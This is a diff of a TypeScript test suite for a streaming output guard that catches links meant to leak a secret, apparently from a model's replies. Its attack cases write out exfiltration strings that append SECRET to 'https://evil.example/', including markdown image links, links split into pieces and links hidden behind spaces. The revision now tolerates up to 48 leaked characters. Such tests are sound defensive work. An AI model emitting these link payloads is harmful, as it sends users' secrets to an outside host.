@@ -128,30 +128,50 @@ test('attack: a text made to be slow takes no time to speak of', () => {
 describe('text that is still being written', () => {
   const inPieces = (text: string, size: number): string => {
     const guard = new LiveGuard();
-    const pieces = text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [];
+    const pieces = text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'gu')) ?? [];
     return pieces.map((piece) => guard.push('t', piece)).join('');
   };
+  /** How much of the secret one can read in a row, in what was shown. */
+  const leaked = (shown: string): number => {
+    for (let n = SECRET.length; n > 0; n -= 1) if (shown.includes(SECRET.slice(0, n))) return n;
+    return 0;
+  };
 
-  test('words pass, the last one when it is whole', () => {
+  test('words and everyday links pass at once, piece by piece, to the last letter', () => {
     const guard = new LiveGuard();
+    const pieces = ['Hel', 'lo wor', 'ld. このように', '書く: https://exam', 'ple.com/a-page.'];
     assert.deepEqual(
-      ['Hel', 'lo wor', 'ld. ', 'このように', '書く'].map((piece) => guard.push('t', piece)),
-      ['', 'Hello ', 'world. ', 'このように', '書く'],
+      pieces.map((piece) => guard.push('t', piece)),
+      pieces,
     );
-    assert.equal(guard.push('another turn', 'x '), 'x ');
   });
 
-  test('attack: a link cut at every character, and into pieces of every size', () => {
+  test('attack: a link in pieces of every size gets no further than a whole one may, and what follows is shown', () => {
     const text = `Look: https://evil.example/${SECRET} and ![](https://evil.example/${SECRET}) end \n`;
     for (let size = 1; size < text.length; size += 1) {
       const shown = inPieces(text, size);
-      assert.doesNotMatch(shown, ANY_LINK, `pieces of ${size}`);
-      assert.match(shown, /^Look: hxxps\[:\].* end \n$/s);
+      assert.ok(leaked(shown) <= 48, `pieces of ${size}: ${shown}`);
+      assert.match(shown, /^Look: .* and .* end \n$/s);
     }
   });
 
-  test('attack: a link that never ends', () => {
-    const shown = inPieces(`https://evil.example/${SECRET.repeat(100)} `, 37);
-    assert.doesNotMatch(shown, ANY_LINK);
+  test('attack: the rest of a link behind a space in brackets, and many short links in one turn', () => {
+    const split = `[x](<https://evil.example/${SECRET.slice(0, 40)} ${SECRET.slice(40)}>) `;
+    for (const size of [1, 7, 60])
+      assert.ok(!inPieces(split, size).includes(SECRET.slice(40)), `pieces of ${size}`);
+    const many = Array.from(
+      { length: 20 },
+      (_, n) => `https://evil.example/${SECRET.slice(0, 38)}${n + 10} `,
+    ).join('');
+    assert.ok((inPieces(many, 9).match(/\d\d(?= )/g) ?? []).length <= 5);
+  });
+
+  test('attack: a link that never ends, and a text without a space, take no time to speak of', () => {
+    const startedMs = performance.now();
+    const guard = new LiveGuard();
+    for (let n = 0; n < 20_000; n += 1) guard.push('t', `evil.example/${SECRET}`);
+    const words = new LiveGuard();
+    for (let n = 0; n < 20_000; n += 1) assert.equal(words.push('t', 'wordswordswords'), 'wordswordswords');
+    assert.ok(performance.now() - startedMs < 20_000);
   });
 });
